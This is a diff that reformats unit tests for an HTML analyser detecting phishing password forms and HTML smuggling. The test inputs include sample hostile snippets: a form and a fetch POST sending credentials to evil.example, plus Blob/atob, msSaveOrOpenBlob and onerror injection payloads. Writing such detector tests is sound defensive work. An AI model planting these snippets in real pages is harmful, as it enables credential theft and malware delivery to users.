@@ -6,23 +6,42 @@ const html = (text: string) => Buffer.from(text, "utf8");
 
 describe("analyseHtmlFile", () => {
   it("finds a password form and the host it posts to (absolute actions only)", () => {
-    expect(analyseHtmlFile(html('<form action="https://Evil.example/p"><input type="PASSWORD"></form>'))).toEqual({ passwordForm: true, smuggling: false, formAction: "evil.example" });
+    expect(analyseHtmlFile(html('<form action="https://Evil.example/p"><input type="PASSWORD"></form>'))).toEqual({
+      passwordForm: true,
+      smuggling: false,
+      formAction: "evil.example",
+    });
     expect(analyseHtmlFile(html('<form action="post.php"><input type=password></form>'))).toEqual({ passwordForm: true, smuggling: false });
     // Posted by script, without a form: still a password form.
-    expect(analyseHtmlFile(html('<input type="password" id="p"><script>fetch("https://evil.example", {method: "POST"})</script>')).passwordForm).toBe(true);
-    expect(analyseHtmlFile(html('<form action="https://x.example/"><input type="text"></form>'))).toEqual({ passwordForm: false, smuggling: false });
+    expect(
+      analyseHtmlFile(html('<input type="password" id="p"><script>fetch("https://evil.example", {method: "POST"})</script>')).passwordForm,
+    ).toBe(true);
+    expect(analyseHtmlFile(html('<form action="https://x.example/"><input type="text"></form>'))).toEqual({
+      passwordForm: false,
+      smuggling: false,
+    });
   });
 
   it("finds smuggling: a Blob from decoded data, msSaveOrOpenBlob, document.write of decoded text, a long base64 payload", () => {
-    expect(analyseHtmlFile(html('<script>var b = new Blob([atob(x)]); location = URL.createObjectURL(b)</script>')).smuggling).toBe(true);
+    expect(analyseHtmlFile(html("<script>var b = new Blob([atob(x)]); location = URL.createObjectURL(b)</script>")).smuggling).toBe(true);
     expect(analyseHtmlFile(html("<script>navigator.msSaveOrOpenBlob(b, 'a.iso')</script>")).smuggling).toBe(true);
     expect(analyseHtmlFile(html("<script>document.write(unescape('%3Cform%20action%3D'))</script>")).smuggling).toBe(true);
-    expect(analyseHtmlFile(html(`<body onload="go()"><script>function go(){ window.location = URL.createObjectURL(make("${"QUJD".repeat(400)}")) }</script>`)).smuggling).toBe(true);
+    expect(
+      analyseHtmlFile(
+        html(`<body onload="go()"><script>function go(){ window.location = URL.createObjectURL(make("${"QUJD".repeat(400)}")) }</script>`),
+      ).smuggling,
+    ).toBe(true);
     expect(analyseHtmlFile(html('<img src=x onerror="document.body.innerHTML = atob(p)">')).smuggling).toBe(true);
   });
 
   it("leaves ordinary pages alone, and script-like text outside scripts", () => {
-    expect(analyseHtmlFile(html('<html><script>document.title = "Agenda"; var n = atob("aGk=")</script><p>new Blob createObjectURL msSaveOrOpenBlob</p></html>'))).toEqual({ passwordForm: false, smuggling: false });
+    expect(
+      analyseHtmlFile(
+        html(
+          '<html><script>document.title = "Agenda"; var n = atob("aGk=")</script><p>new Blob createObjectURL msSaveOrOpenBlob</p></html>',
+        ),
+      ),
+    ).toEqual({ passwordForm: false, smuggling: false });
     expect(looksLikeSmuggling("")).toBe(false);
   });
 
